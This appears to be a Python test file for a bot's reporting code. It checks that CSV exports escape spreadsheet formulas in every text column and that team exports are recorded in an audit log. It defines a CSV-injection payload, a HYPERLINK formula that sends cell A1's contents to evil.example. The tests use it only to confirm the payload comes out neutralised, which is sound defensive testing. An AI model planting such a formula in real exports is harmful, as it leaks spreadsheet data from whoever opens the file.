"""Every CSV export neutralises formulas in every text column, and a team's export is audited."""

from __future__ import annotations

import csv
import datetime as dt
import io

from sqlalchemy import select

from bot.boards.reports import record_export, report_csv, team_report
from bot.config import OrgConfig
from bot.db import session_scope
from bot.models import AuditLog
from tests import factories as f

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


def test_a_slack_real_name_cannot_become_a_formula_in_the_managers_csv(engine) -> None:
    # Before: only the title was neutralised; a real name like =HYPERLINK(...) went out as a formula.
    f.person(engine, "U0EVIL", name=EVIL, email="evil@example.com")
    f.person(engine, "U0ANN", name="Ann", email="+ann@example.com")
    f.teams(engine, {"@Growth": ["U0EVIL", "U0ANN"]}, managers={"@Growth": ["U0ANN"]})
    f.artifact(engine, "U0EVIL", "https://docs.example.com/a", title="-2+3 dashboard")
    with session_scope(engine) as s:
        report = team_report(s, team_name="@Growth", period="2026-10", org=OrgConfig())
    rows = list(csv.reader(io.StringIO(report_csv(report))))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    names = {row[2] for row in rows[1:]}
    assert "'" + EVIL in names
    assert any(row[1] == "'@Growth" for row in rows[1:])
    assert any(row[8] == "'-2+3 dashboard" for row in rows[1:])


def test_a_team_export_is_audited(engine) -> None:
    # Before: CSV exports of a whole team left no trace in the audit log.
    f.person(engine, "U0ANN", name="Ann")
    f.teams(engine, {"Growth": ["U0ANN"]}, managers={"Growth": ["U0ANN"]})
    with session_scope(engine) as s:
        report = team_report(s, team_name="Growth", period="2026-10", org=OrgConfig())
    record_export(engine=engine, actor="U0ANN", report=report, fmt="csv", now=dt.datetime(2026, 11, 2, tzinfo=dt.UTC))
    with session_scope(engine) as s:
        logs = s.scalars(select(AuditLog).where(AuditLog.action == "report_exported")).all()
        assert [(a.actor, a.target_id, a.detail["period"], a.detail["format"]) for a in logs] == [
            ("U0ANN", "Growth", "2026-10", "csv")
        ]
